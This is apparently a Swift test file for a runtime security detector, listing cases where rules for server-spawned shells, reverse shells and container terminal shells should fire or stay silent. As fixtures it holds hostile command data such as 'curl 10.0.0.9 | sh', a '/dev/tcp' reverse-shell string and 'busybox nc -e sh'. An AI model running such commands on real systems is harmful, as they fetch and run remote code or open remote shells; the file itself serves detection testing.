import CLayout
import Events
import TestKit

extension RuleCase {
    static let shells = servers + connections + terminals

    private static let server = "Shell started by a server"
    private static let servers: [RuleCase] = [
        .fires(server, "nginx runs sh") {
            $0.exec("/usr/bin/dash", ["-c", "id"], as: "sh", by: $0.inContainer("/usr/sbin/nginx", below: ["/usr/sbin/nginx"]))
        },
        .fires(server, "PHP runs a command") {
            $0.exec("/bin/sh", ["-c", "id"], by: $0.inContainer("/usr/sbin/php-fpm8.2", below: ["/usr/sbin/php-fpm8.2"]))
        },
        .fires(server, "a shell behind a link of another name") {
            $0.exec("/usr/bin/bash", ["-i"], as: "worker", by: $0.onHost("/usr/sbin/apache2", below: ["/usr/sbin/apache2"]))
        },
        .fires(server, "PostgreSQL runs a program for a client") {
            $0.exec(
                "/bin/sh", ["-c", "curl 10.0.0.9 | sh"],
                by: $0.inContainer("/usr/lib/postgresql/16/bin/postgres", below: ["/usr/lib/postgresql/16/bin/postgres"]))
        },
        .fires(server, "Java runs a command") {
            $0.exec("/bin/sh", ["-c", "id"], by: $0.inContainer("/opt/jdk/bin/java", below: ["/opt/jdk/bin/java -jar shop.jar"]))
        },
        .misses(server, "a shell script starts the server") {
            $0.exec("/usr/sbin/nginx", by: $0.inContainer("/bin/sh", below: ["/docker-entrypoint.sh"]))
        },
        .misses(server, "sshd starts a login") { $0.exec("/bin/bash", ["-l"], by: $0.onHost("/usr/sbin/sshd", below: ["/usr/sbin/sshd"])) },
        .misses(server, "cron runs a job") {
            $0.exec("/bin/sh", ["-c", "run-parts /etc/cron.hourly"], by: $0.onHost("/usr/sbin/cron", below: ["/usr/sbin/cron"]))
        },
        .misses(server, "the server starts another program") {
            $0.exec("/usr/bin/convert", by: $0.inContainer("/usr/sbin/nginx", below: ["/usr/sbin/nginx"]))
        },
        .misses(server, "the shell could not be started") {
            $0.host.exec("/bin/sh", by: $0.inContainer("/usr/sbin/nginx", below: ["/usr/sbin/nginx"]), result: -2)
        },
        .misses(server, "Apache runs a CGI script") {
            $0.exec(
                "/usr/bin/bash", ["/usr/lib/cgi-bin/time.sh"], as: "time.sh",
                by: $0.onHost("/usr/sbin/apache2", below: ["/usr/sbin/apache2"]))
        },
        .misses(server, "Apache pipes its log") {
            $0.exec(
                "/bin/sh", ["-c", "/usr/bin/rotatelogs /var/log/x 86400"], by: $0.onHost("/usr/sbin/apache2", below: ["/usr/sbin/apache2"]))
        },
        .misses(server, "PostgreSQL archives its log") {
            $0.exec(
                "/bin/sh", ["-c", "cp pg_wal/01 /backup/01"],
                by: $0.onHost("/usr/lib/postgresql/16/bin/postgres", below: ["/usr/lib/postgresql/16/bin/postgres"]))
        },
        .misses(server, "a Java program that builds") {
            $0.exec(
                "/bin/sh", ["-c", "make"], by: $0.onHost("/usr/bin/java", below: ["/usr/bin/java -cp gradle-launcher.jar org.gradle.Main"]))
        },
    ]

    private static let reverse = "Reverse shell"
    private static let connections: [RuleCase] = [
        .fires(reverse, "python puts a connection on standard input") {
            $0.host.dup(to: 0, ofSocketTo: (10, 0, 0, 9), port: 4444, by: $0.inContainer("/usr/bin/python3.11", ["-c", "…"]))
        },
        .fires(reverse, "and on standard error") {
            $0.host.dup(to: 2, ofSocketTo: (10, 0, 0, 9), port: 4444, by: $0.onHost("/usr/bin/perl"))
        },
        .fires(reverse, "bash -i >& /dev/tcp/… 0>&1") {
            $0.host.dup(1, to: 0, ofSocketTo: (10, 0, 0, 9), port: 4444, by: $0.onHost("/usr/bin/bash", ["-i"], uid: 33))
        },
        .fires(reverse, "netcat in /tmp called sshd") {
            $0.host.dup(to: 0, ofSocketTo: (10, 0, 0, 9), port: 4444, by: $0.onHost("/tmp/sshd"))
        },
        .fires(reverse, "busybox nc -e") {
            $0.host.dup(to: 0, ofSocketTo: (10, 0, 0, 9), port: 4444, by: $0.inContainer("/bin/busybox", ["nc", "-e", "sh"]))
        },
        .fires(reverse, "over IPv6") {
            $0.dup(to: 0, of: Scene.connection6(to: Scene.someAddress6, port: 4444), by: $0.onHost("/usr/bin/ncat"))
        },
        .misses(reverse, "another descriptor") {
            $0.host.dup(to: 7, ofSocketTo: (10, 0, 0, 9), port: 4444, by: $0.onHost("/usr/bin/python3.11"))
        },
        .misses(reverse, "a script waits for a service with /dev/tcp") {
            $0.host.dup(to: 1, ofSocketTo: (10, 0, 0, 5), port: 5432, by: $0.inContainer("/usr/bin/bash", ["/wait-for-it.sh", "db:5432"]))
        },
        .misses(reverse, "sshd hands a connection over") {
            $0.host.dup(to: 0, ofSocketTo: (192, 168, 0, 7), port: 51000, by: $0.onHost("/usr/sbin/sshd", below: ["/usr/sbin/sshd"]))
        },
        .misses(reverse, "systemd hands a connection over") {
            $0.host.dup(to: 0, ofSocketTo: (192, 168, 0, 7), port: 51000, by: $0.onHost("/usr/lib/systemd/systemd-executor"))
        },
        .misses(reverse, "PHP keeps its listening socket") {
            var listening = EventFixtures.socket(remote: (0, 0, 0, 0), port: 0)
            listening.state = 10
            return $0.dup(to: 0, of: listening, by: $0.inContainer("/usr/local/sbin/php-fpm"))
        },
        .fires(reverse, "through fcntl") {
            $0.host.call(
                "fcntl", on: EventFixtures.socket(remote: (203, 0, 113, 9), port: 4_444), [0, 0], by: $0.onHost("/usr/bin/python3.11"))
        },
        .misses(reverse, "fcntl to another number") {
            $0.host.call(
                "fcntl", on: EventFixtures.socket(remote: (203, 0, 113, 9), port: 4_444), [0, 10], by: $0.onHost("/usr/bin/bash"),
                result: 10)
        },
        .misses(reverse, "a pipe") { $0.dup(to: 0, of: nil, by: $0.onHost("/usr/bin/bash")) },
        .misses(reverse, "a unix socket") {
            var socket = plimsoll_socket()
            socket.family = 1
            return $0.dup(to: 0, of: socket, by: $0.onHost("/usr/bin/ssh"))
        },
    ]

    private static let terminal = "Terminal shell in container"
    private static let pts: UInt32 = 136 << 8
    private static let terminals: [RuleCase] = [
        .fires(terminal, "podman exec -it") {
            $0.exec("/usr/bin/bash", by: $0.inContainer("/usr/bin/crun", below: ["/usr/bin/conmon", "/usr/bin/crun"]), terminal: pts)
        },
        .fires(terminal, "kubectl exec -it, busybox") {
            $0.exec(
                "/bin/busybox", as: "sh",
                by: $0.inContainer("/usr/bin/runc", below: ["/usr/bin/containerd-shim-runc-v2", "/usr/sbin/runc"]), terminal: pts)
        },
        .misses(terminal, "the same without a terminal") {
            $0.exec("/usr/bin/bash", by: $0.inContainer("/usr/bin/crun", below: ["/usr/bin/crun"]))
        },
        .misses(terminal, "a terminal on the host") {
            $0.exec("/usr/bin/bash", by: $0.onHost("/usr/bin/crun", below: ["/usr/bin/crun"]), terminal: pts)
        },
        .misses(terminal, "a shell in that shell") { $0.exec("/usr/bin/bash", by: $0.inContainer("/usr/bin/bash"), terminal: pts) },
        .misses(terminal, "another program at the terminal") {
            $0.exec("/usr/bin/top", by: $0.inContainer("/usr/bin/crun", below: ["/usr/bin/crun"]), terminal: pts)
        },
    ]
}

extension Scene {
    /// 2001:db8::9, an address for documentation (RFC 3849).
    static let someAddress6: [UInt8] = [0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 9]

    /// A connected TCP socket over IPv6.
    static func connection6(to address: [UInt8], port: UInt16, transport: UInt16 = 6) -> plimsoll_socket {
        var socket = EventFixtures.socket(remote: (0, 0, 0, 0), port: port)
        socket.family = 10
        socket.protocol = transport
        withUnsafeMutableBytes(of: &socket.remote) { $0.copyBytes(from: address) }
        return socket
    }

    /// dup2(2) of descriptor 3: of a socket, or of a pipe where there is none.
    func dup(to new: Int64, of socket: plimsoll_socket?, by process: Process) -> EventFixture {
        var record = RecordBuilder(.dup2, result: new)
        record.header.args.0 = 3
        record.header.args.1 = UInt64(new)
        if let socket { record.add(socket) }
        let kind = socket == nil ? PLIMSOLL_KIND_PIPE : PLIMSOLL_KIND_SOCKET
        record.add(plimsoll_descriptor(number: new, kind: UInt32(kind.rawValue), flags: 0))
        return host.event(record, by: process)
    }
}
